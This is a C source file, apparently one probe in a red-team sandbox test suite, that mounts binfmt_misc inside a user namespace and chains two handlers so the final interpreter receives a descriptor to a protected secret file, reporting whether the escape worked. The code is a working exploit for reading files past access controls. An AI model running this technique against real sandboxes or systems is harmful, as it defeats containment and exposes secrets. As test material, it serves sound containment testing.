/* binfmt_chain.c: a file read by the kernel as a link of a binfmt_misc chain (red team 67).
 *
 * Since Linux 6.7 a user namespace may mount a binfmt_misc of its own and register handlers,
 * which come before ELF and #!.  A handler's interpreter is opened by the kernel (open_exec)
 * at the exec -- or, flag F, at the write to "register" -- by a path no call of the program
 * names; and it is itself searched for a handler, up to five deep.  A handler with flag O
 * ("open binary") gives its interpreter a descriptor of the file it matched (AT_EXECFD in the
 * auxiliary vector), opened for reading.  So:
 *
 *   binfmt_chain SECRET WORK
 *        in a user and mount namespace of its own, mounts binfmt_misc on WORK/bm, copies
 *        itself to WORK/x.aaa, links that as WORK/x.bin, registers
 *            ":a67:E::aaa::SECRET:"          (a *.aaa file is run by SECRET)
 *            ":b67:E::EXT::WORK/x.bin:O"      (SECRET, *.EXT, is run by x.bin, given SECRET)
 *        and execs WORK/x.aaa: the kernel runs x.aaa -> SECRET -> x.bin, and x.bin -- the
 *        very file exec'd (a hard link: the same inode) -- finds SECRET open at AT_EXECFD.
 *        ESCAPED when that descriptor is the secret.  SECRET must be executable (open_exec
 *        checks MAY_EXEC; root needs one x bit).
 */
#include "attack.h"

#include <sched.h>
#include <sys/auxv.h>
#include <sys/mount.h>

static void copy_self(const char *to) {
    int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (in < 0 || out < 0) skipped("copy of the program to %s: %s", to, ename(errno));
    char buf[65536];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, (size_t)n) != n) skipped("write %s: %s", to, ename(errno));
    close(in);
    close(out);
}

int main(int argc, char **argv) {
    long execfd = (long)getauxval(AT_EXECFD);
    if (execfd > 0) {  /* x.bin, at the end of the chain */
        if (is_secret_fd((int)execfd)) escaped("the chain's interpreter was given %s", fd_name((int)execfd));
        blocked("AT_EXECFD %ld is %s, not the secret", execfd, fd_name((int)execfd));
    }
    if (argc != 3) usage("binfmt_chain SECRET WORK");
    const char *secret = argv[1], *work = argv[2];
    const char *ext = strrchr(secret, '.');
    if (ext == NULL || strchr(ext, '/')) usage("SECRET must have an extension");
    char bm[4200], aaa[4200], bin[4200], reg[4300], rule[8800];
    snprintf(bm, sizeof bm, "%s/bm", work);
    snprintf(aaa, sizeof aaa, "%s/x.aaa", work);
    snprintf(bin, sizeof bin, "%s/x.bin", work);
    snprintf(reg, sizeof reg, "%s/register", bm);
    copy_self(aaa);
    if (link(aaa, bin) < 0) skipped("link %s: %s", bin, ename(errno));
    if (mkdir(bm, 0755) < 0) skipped("mkdir %s: %s", bm, ename(errno));
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) skipped("unshare: %s", ename(errno));
    map_own_ids(uid, gid);
    if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
        skipped("private mounts: %s", ename(errno));
    if (mount(NULL, bm, "binfmt_misc", 0, NULL) < 0) {
        if (errno == ENODEV) skipped("no binfmt_misc: %s", ename(errno));
        blocked("mount of binfmt_misc refused: %s", ename(errno));
    }
    int err;
    snprintf(rule, sizeof rule, ":a67:E::aaa::%s:", secret);
    if ((err = write_file(reg, rule)) < 0) blocked("register %s: %s", rule, ename(-err));
    snprintf(rule, sizeof rule, ":b67:E::%s::%s:O", ext + 1, bin);
    if ((err = write_file(reg, rule)) < 0) blocked("register %s: %s", rule, ename(-err));
    char *args[] = {"x", NULL};
    execv(aaa, args);
    blocked("exec of %s: %s", aaa, ename(errno));
}
